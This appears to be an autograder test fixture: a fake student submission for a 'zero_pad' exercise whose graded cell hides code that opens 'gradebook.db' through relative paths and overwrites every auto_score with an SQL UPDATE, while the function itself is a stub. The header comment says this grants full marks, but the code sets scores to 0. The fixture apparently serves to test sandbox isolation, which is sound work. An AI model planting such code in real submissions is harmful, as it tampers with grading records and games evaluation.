# Tries to give everyone full marks by writing to the gradebook directly.
BASED_ON = "../../../course_data/demo_submissions/alice.en.py"

CELLS = {"zero_pad": '''# GRADED FUNCTION: zero_pad
import sqlite3
import os
for path in ["../../../gradebook.db", "../../gradebook.db", os.path.abspath("../../../gradebook.db")]:
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 0")
        db.commit()
        print("WROTE", path)
    except Exception as err:
        print("DENIED", path, type(err).__name__, err)

def zero_pad(X, pad):
    return X
'''}
